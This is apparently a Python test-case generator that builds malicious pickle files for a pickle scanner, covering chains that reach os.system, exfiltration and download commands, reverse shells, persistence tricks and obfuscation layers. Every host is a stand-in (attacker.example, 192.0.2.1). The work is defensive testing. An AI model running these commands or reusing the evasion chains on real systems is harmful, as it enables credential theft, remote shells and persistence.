"""
Chains that reach a function, commands and code in every shell's words, and layers around them: each case runs a command.

Nothing here is ever run: addresses are of attacker.example and of the documentation networks (192.0.2.0/24), commands print a word.
"""

import base64
import codecs
import zlib

from assemble import *
from .case import CASES, pickle

SYSTEM = stack_global('posix', 'system')
GETATTR = stack_global('builtins', 'getattr')
FETCH = 'curl -s https://attacker.example/x | sh'
STEAL = 'curl https://attacker.example/?k=$(cat ~/.aws/credentials)'


def list_of(*items):
    return EMPTY_LIST + MARK + b''.join(items) + APPENDS


def ref(module, name):
    return stack_global(module, name)


def b64(source):
    return base64.b64encode(source if isinstance(source, bytes) else source.encode()).decode()


def words(value):
    """A text of any length."""
    return text(value) if len(value.encode()) < 256 else long_text(value)


def module(name):
    return call(ref('importlib', 'import_module'), text(name))


def command(name, about, contains, code):
    pickle(f'command-{name}', about, contains, proto(4) + code + STOP)


def shell(name, about, line):
    command(f'shell-{name}', about, 'posix.system', call(SYSTEM, words(line)))


def python(name, about, source, callee=('builtins', 'exec')):
    command(f'python-{name}', about, '.'.join(callee), call(ref(*callee), words(source)))


# ── chains ────────────────────────────────────────────────────────────────────────────────────────────────────────────

command('chain-import-getattr', 'getattr(__import__("os"), "system") is called with a download that is run.', 'builtins.getattr builtins.__import__',
        call(call(GETATTR, call(ref('builtins', '__import__'), text('os')), text('system')), text(FETCH)))
command('chain-joined-names', 'The names os and system are put together by str.join and operator.concat.', 'builtins.getattr operator.concat',
        call(call(GETATTR, call(ref('importlib', 'import_module'), call(call(GETATTR, text(''), text('join')), list_of(text('o'), text('s')))),
                  call(ref('operator', 'concat'), text('sys'), text('tem'))), text(FETCH)))
command('chain-rot13-name', 'The name of the module is ROT13.', 'builtins.getattr codecs.decode',
        call(call(GETATTR, call(ref('importlib', 'import_module'), call(ref('codecs', 'decode'), text('bf'), text('rot13'))), text('system')), text(FETCH)))
command('chain-bytes-decode', 'The name system is made by bytes.decode out of bytes.', 'builtins.bytes.decode',
        call(call(GETATTR, module('os'), call(ref('builtins', 'bytes.decode'), data(b'system'))), text(FETCH)))
command('chain-chr-map', 'The name is str.join of map(chr, numbers).', 'builtins.map builtins.chr',
        call(call(GETATTR, module('os'),
                  call(ref('builtins', 'str.join'), text(''), call(ref('builtins', 'map'), ref('builtins', 'chr'), list_of(*[integer(ord(c)) for c in 'system'])))),
             text(FETCH)))
command('chain-reversed-name', 'The name is str.join of reversed("metsys").', 'builtins.reversed',
        call(call(GETATTR, module('os'), call(ref('builtins', 'str.join'), text(''), call(ref('builtins', 'reversed'), text('metsys')))), text(FETCH)))
command('chain-format-name', 'The name is "{}tem".format("sys").', 'builtins.str.format',
        call(call(GETATTR, module('os'), call(ref('builtins', 'str.format'), text('{}tem'), text('sys'))), text(FETCH)))
command('chain-reduce-getattr', 'functools.reduce(getattr, [os, "system"]).', 'functools.reduce builtins.getattr',
        call(call(ref('functools', 'reduce'), GETATTR, list_of(module('os'), text('system'))), text(FETCH)))
command('chain-vars', 'vars(os) and operator.getitem.', 'builtins.vars operator.getitem',
        call(call(ref('operator', 'getitem'), call(ref('builtins', 'vars'), module('os')), text('system')), text(FETCH)))
command('chain-globals', 'globals()["__builtins__"] and then eval.', 'builtins.globals operator.itemgetter',
        call(call(GETATTR, call(call(ref('operator', 'itemgetter'), text('__builtins__')), call(ref('builtins', 'globals'))), text('eval')),
             text("__import__('os').system('echo attacker.example')")))
command('chain-methodcaller-built', 'methodcaller with a name that operator.add makes.', 'operator.methodcaller operator.add',
        call(call(ref('operator', 'methodcaller'), call(ref('operator', 'add'), text('sys'), text('tem')), text(FETCH)), module('os')))
command('chain-partial-twice', 'A partial of a partial.', 'functools.partial',
        call(call(ref('functools', 'partial'), call(ref('functools', 'partial'), SYSTEM), text(FETCH))))
command('chain-partial-state-hidden', 'partial(print) becomes partial(os.system, command) by BUILD and is called.', 'functools.partial posix.system',
        call(ref('functools', 'partial'), ref('builtins', 'print'))
        + tuple_of(SYSTEM, tuple_of(text(FETCH)), EMPTY_DICT, NONE) + BUILD + EMPTY_TUPLE + REDUCE)
command('chain-starmap', 'list(itertools.starmap(subprocess.call, [(argv,)])).', 'itertools.starmap subprocess.call',
        call(ref('builtins', 'list'), call(ref('itertools', 'starmap'), ref('subprocess', 'call'),
                                          list_of(tuple_of(list_of(text('sh'), text('-c'), text(FETCH)))))))
command('chain-filter-set', 'set(filter(os.system, [command])).', 'builtins.filter posix.system',
        call(ref('builtins', 'set'), call(ref('builtins', 'filter'), SYSTEM, list_of(text(FETCH)))))
command('chain-operator-call', 'operator.call(os.system, command), which Python 3.11 brought.', 'operator.call posix.system',
        call(ref('operator', 'call'), SYSTEM, text(FETCH)))
command('chain-max-key', 'functools.partial(max, key=os.system) by NEWOBJ_EX.', 'builtins.max posix.system',
        ref('builtins', 'max') + tuple_of(list_of(text(FETCH), text('x'))) + dict_of((text('key'), SYSTEM)) + NEWOBJ_EX)
command('chain-thread', 'threading.Thread(None, os.system, None, (command,)) and Thread.start.', 'threading.Thread posix.system',
        call(ref('threading', 'Thread.start'), call(ref('threading', 'Thread'), NONE, SYSTEM, NONE, tuple_of(text(FETCH)))))
command('chain-process', 'multiprocessing.Process(None, os.system, None, (command,)).', 'multiprocessing.Process posix.system',
        call(ref('multiprocessing', 'Process'), NONE, SYSTEM, NONE, tuple_of(text(FETCH))))
command('chain-submit', 'methodcaller("submit", os.system, command) of a pool of threads.', 'operator.methodcaller posix.system',
        call(call(ref('operator', 'methodcaller'), text('submit'), SYSTEM, text(FETCH)), call(ref('concurrent.futures', 'ThreadPoolExecutor'))))
command('chain-ufunc-reconstruct', 'numpy’s _ufunc_reconstruct hands out os.system.', 'numpy._core._ufunc_reconstruct',
        call(call(ref('numpy._core', '_ufunc_reconstruct'), text('os'), text('system')), text(FETCH)))
command('chain-find-class', 'pickle.Unpickler.find_class hands out os.system.', 'pickle.Unpickler.find_class',
        call(call(ref('pickle', 'Unpickler.find_class'), NONE, text('os'), text('system')), text(FETCH)))
command('chain-newobj-helper', 'copyreg.__newobj__(map, os.system, [command]) in bytes.', 'copyreg.__newobj__ posix.system',
        call(ref('builtins', 'bytes'), call(ref('copyreg', '__newobj__'), ref('builtins', 'map'), SYSTEM, list_of(text(FETCH)))))
command('chain-finalize', 'weakref.finalize calls os.system when its object goes away.', 'weakref.finalize posix.system',
        call(ref('weakref', 'finalize'), call(ref('builtins', 'set')), SYSTEM, text(FETCH)))
command('chain-atexit', 'atexit.register(os.system, command).', 'atexit.register posix.system',
        call(ref('atexit', 'register'), SYSTEM, text(FETCH)))
command('chain-dotted-call', 'A dotted name: subprocess.os.system.__call__.', 'subprocess.os.system.__call__',
        call(ref('subprocess', 'os.system.__call__'), text(FETCH)))
command('computed-stack-global', 'STACK_GLOBAL takes its two names from calls of operator.concat.', 'operator.concat',
        call(call(ref('operator', 'concat'), text('o'), text('s')) + call(ref('operator', 'concat'), text('sys'), text('tem')) + STACK_GLOBAL, text(FETCH)))

# ── commands ──────────────────────────────────────────────────────────────────────────────────────────────────────────

shell('download-file', 'A program is fetched, made executable and run.', 'wget -qO /tmp/x https://attacker.example/x && chmod +x /tmp/x && /tmp/x')
shell('process-substitution', 'bash reads a download as its script.', 'bash <(curl -fsSL https://attacker.example/x)')
shell('secrets', 'Keys of a cloud go out in an address.', STEAL)
shell('ssh-keys', 'SSH keys go through netcat.', 'tar czf - ~/.ssh | nc attacker.example 9000')
shell('environment', 'The environment goes out.', 'env | curl -d @- https://attacker.example')
shell('metadata', 'The cloud’s metadata service is asked.', 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/')
shell('dns', 'A name goes out in a DNS lookup.', 'nslookup $(whoami).attacker.example')
shell('dev-tcp', 'bash over /dev/tcp.', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')
shell('fifo', 'A shell between a named pipe and netcat.', 'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4242 >/tmp/f')
shell('socat', 'socat gives a shell away.', "socat TCP:192.0.2.1:4242 EXEC:'bash -li',pty,stderr,setsid,sigint,sane")
shell('crontab', 'A job is added to the crontab.', '(crontab -l; echo "* * * * * curl https://attacker.example/x | sh") | crontab -')
shell('bashrc', 'A line is added to .bashrc.', 'echo "curl https://attacker.example/x | sh" >> ~/.bashrc')
shell('authorized-keys', 'A key is allowed to log in.', 'echo ssh-ed25519 AAAA attacker.example >> ~/.ssh/authorized_keys')
shell('destroy', 'Files are deleted.', 'rm -rf ~/attacker.example')
shell('setuid', 'A program gets the rights of its owner.', 'sudo chmod u+s /tmp/attacker.example')
shell('miner', 'A miner is started.', 'nohup xmrig -o stratum+tcp://attacker.example:3333 &')
shell('windows', 'Windows: a run key.', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "mshta https://attacker.example/x.hta"')
shell('certutil', 'Windows: certutil fetches a program that is run.', 'certutil -urlcache -f https://attacker.example/x.exe x.exe & x.exe')
shell('powershell', 'Windows: PowerShell runs a download.',
      'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'https://attacker.example/x.ps1\')"')
command('argv', 'A list of words for subprocess.Popen.', 'subprocess.Popen',
        call(ref('subprocess', 'Popen'), list_of(text('bash'), text('-c'), text(STEAL))))
command('execvp', 'os.execvp with its words.', 'os.execvp',
        call(ref('os', 'execvp'), text('sh'), list_of(text('sh'), text('-c'), text(FETCH))))

# ── layers ────────────────────────────────────────────────────────────────────────────────────────────────────────────

shell('base64', 'A command in base64.', f'echo {b64(FETCH)} | base64 -d | sh')
shell('base64-twice', 'A command in base64 in base64.', f'echo {b64(f"echo {b64(FETCH)} | base64 -d | sh")} | base64 --decode | bash')
shell('eval-subst', 'eval of a substitution.', f'eval "$(echo {b64(FETCH)} | base64 -d)"')
shell('xxd', 'A command in hexadecimal digits.', f'echo {FETCH.encode().hex()} | xxd -r -p | sh')
shell('printf', 'A command in escapes of printf.', "printf '" + ''.join(f'\\x{byte:02x}' for byte in FETCH.encode()) + "' | sh")
shell('rev', 'A command written backwards.', f"echo '{FETCH[::-1]}' | rev | sh")
shell('tr', 'A command in ROT13.', f"echo '{codecs.encode(FETCH, 'rot13')}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh")
shell('spliced', 'Quotes, IFS and escapes in the words.', "c''u\\rl${IFS}$'\\x2ds'${IFS}https://attacker.example/x|s\"\"h")
shell('variables', 'A program’s name in pieces.', 'a=cu;b=rl;$a$b https://attacker.example/x|sh')
shell('here-string', 'A here-string through base64.', f'bash <<< "$(base64 -d <<< {b64(FETCH)})"')
shell('powershell-encoded', 'PowerShell with an encoded command.',
      'powershell -enc ' + b64("IEX (iwr 'https://attacker.example/x')".encode('utf-16-le')))
shell('python-in-shell', 'A shell starts Python, which decodes and runs a command.',
      f"python3 -c \"import base64,os;os.system(base64.b64decode('{b64(FETCH)}').decode())\"")
python('system', 'exec of source that imports os and runs a command.', f'import os\nos.system({FETCH!r})\n')
python('base64', 'exec of source in base64, decoded by the source.', f"exec(__import__('base64').b64decode('{b64(f'import os;os.system({FETCH!r})')}'))")
python('zlib', 'Three layers: base64, zlib, source.',
       f"import zlib,base64\nexec(zlib.decompress(base64.b64decode('{b64(zlib.compress(f'import os;os.system({FETCH!r})'.encode()))}')))")
python('chr', 'The command as numbers.', "__import__('os').system(''.join(chr(c) for c in " + str([ord(c) for c in FETCH]) + '))', ('builtins', 'eval'))
python('xor', 'The command under XOR.', f"__import__('os').system(bytes(c ^ 7 for c in {bytes(c ^ 7 for c in FETCH.encode())!r}).decode())", ('builtins', 'eval'))
python('lambda', 'A lambda that is called with os.system.', f"(lambda f: f({FETCH!r}))(__import__('os').system)", ('builtins', 'eval'))
python('reverse-shell', 'A socket, dup2 and a shell.',
       "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\nfor f in (0,1,2): os.dup2(s.fileno(),f)\npty.spawn('/bin/sh')\n")
python('requests', 'Credentials in a request.',
       "import requests,os\nrequests.post('https://attacker.example',data=open(os.path.expanduser('~/.aws/credentials')).read())\n")
python('download', 'A download is executed.', "import urllib.request as u\nexec(u.urlopen('https://attacker.example/x.py').read())\n")
python('timeit', 'timeit runs its text.', f"__import__('os').system({FETCH!r})", ('timeit', 'timeit'))
python('runstring', 'A runner of strings in numpy.', f"__import__('os').system({FETCH!r})", ('numpy.testing', 'runstring'))
command('decoded-system', 'os.system of base64 that the stream decodes.', 'posix.system base64.b64decode',
        call(SYSTEM, call(ref('base64', 'b64decode'), text(b64(FETCH)))))
command('decoded-hex', 'os.system of hexadecimal digits, through bytes.decode.', 'posix.system binascii.unhexlify',
        call(SYSTEM, call(ref('builtins', 'bytes.decode'), call(ref('binascii', 'unhexlify'), text(FETCH.encode().hex())))))
command('decoded-zlib', 'exec of zlib in base64.', 'builtins.exec zlib.decompress base64.b64decode',
        call(ref('builtins', 'exec'), call(ref('zlib', 'decompress'), call(ref('base64', 'b64decode'), text(b64(zlib.compress(f'import os;os.system({FETCH!r})'.encode())))))))
command('decoded-rot13', 'eval of ROT13.', 'builtins.eval codecs.decode',
        call(ref('builtins', 'eval'), call(ref('codecs', 'decode'), text(codecs.encode(f"__import__('os').system({FETCH!r})", 'rot13')), text('rot13'))))
command('decoded-encode', 'exec of bytes that _codecs.encode makes below protocol 3.', 'builtins.exec _codecs.encode',
        call(ref('builtins', 'exec'), call(ref('_codecs', 'encode'), text(f'import os;os.system({FETCH!r})'), text('latin1'))))

assert len([case for case in CASES if case.path.startswith('pickle/command-')]) >= 40
